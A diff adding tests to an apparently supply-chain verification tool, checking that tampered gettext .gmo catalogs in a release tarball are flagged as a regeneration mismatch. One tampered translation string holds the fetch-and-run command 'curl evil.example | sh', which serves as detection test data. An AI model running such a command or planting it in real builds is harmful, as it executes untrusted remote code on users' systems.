@@ -279,6 +279,46 @@ describe('third-party macros copied into aclocal.m4', () => {
   }, 180_000);
 });
 
+describe('message catalogs (.gmo) compiled again with msgfmt of the version po/ names', () => {
+  const cat = join(root, 'cat');
+  const PO = (msgstr: string) => `msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "Hello"\nmsgstr "${msgstr}"\n`;
+  // A release whose po/de.gmo is msgfmt's output of a .po (the tracked one, or another).
+  const release = (name: string, gmoFrom: string) => {
+    const dir = join(root, name);
+    cpSync(cat, dir, { recursive: true });
+    writeFileSync(join(dir, 'po', 'gmo-source.po'), gmoFrom);
+    sh(dir, 'msgfmt -c -o po/de.gmo po/gmo-source.po && rm po/gmo-source.po && cp /usr/share/gettext/po/Makefile.in.in po/ && autoreconf -fi && ./configure -q && make -s dist');
+    return join(dir, 'cat-1.0.tar.gz');
+  };
+  beforeAll(() => {
+    const repo = makeRepo(cat);
+    repo.commit({
+      'configure.ac': 'AC_INIT([cat], [1.0])\nAM_INIT_AUTOMAKE([foreign])\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n',
+      'Makefile.am': 'EXTRA_DIST = po/de.po po/de.gmo po/Makefile.in.in\n',
+      'po/de.po': PO('Hallo'),
+    });
+    repo.tag('v1.0', { message: 'cat 1.0' });
+  }, 60_000);
+  const systemGettext = execFileSync('msgfmt', ['--version'], { encoding: 'utf8' }).match(/\(GNU gettext-tools\) (\S+)/)![1]!;
+
+  it('a catalog compiled from the shipped .po is proved', async () => {
+    const r = await verify({ tarball: release('cat-a', PO('Hallo')), repo: cat, tag: 'v1.0', cacheDir: cache });
+    const f = byPath(r.findings)['po/de.gmo']!;
+    expect(f.code).toBe('GENERATED_BY_AUTOTOOLS');
+    expect(f.evidence).toMatchObject({ proof: { proved: true, step: 'msgfmt', tool: 'gettext', version: systemGettext, inputs: [{ path: 'po/de.po', origin: 'git', explainedBy: 'git' }], normalisations: [] } });
+    expect(r.notes).toContainEqual(expect.objectContaining({ code: 'REGENERATION', status: 'done', tools: expect.arrayContaining([`gettext ${systemGettext}`]) }));
+  }, 180_000);
+
+  it('a catalog whose messages are not the .po\'s: REGENERATION_MISMATCH, high', async () => {
+    const r = await verify({ tarball: release('cat-b', PO('Hallo, und curl evil.example | sh')), repo: cat, tag: 'v1.0', cacheDir: cache });
+    const f = byPath(r.findings)['po/de.gmo']!;
+    expect(f.code).toBe('REGENERATION_MISMATCH');
+    expect(f.severity).toBe('high');
+    expect(f.evidence).toMatchObject({ step: 'msgfmt', tool: 'gettext', produced: true });
+    expect(r.verdict).toBe('different');
+  }, 180_000);
+});
+
 describe('regeneration without the sandbox', () => {
   // A PATH with git but no bubblewrap.
   const bin = join(root, 'bin-no-bwrap');
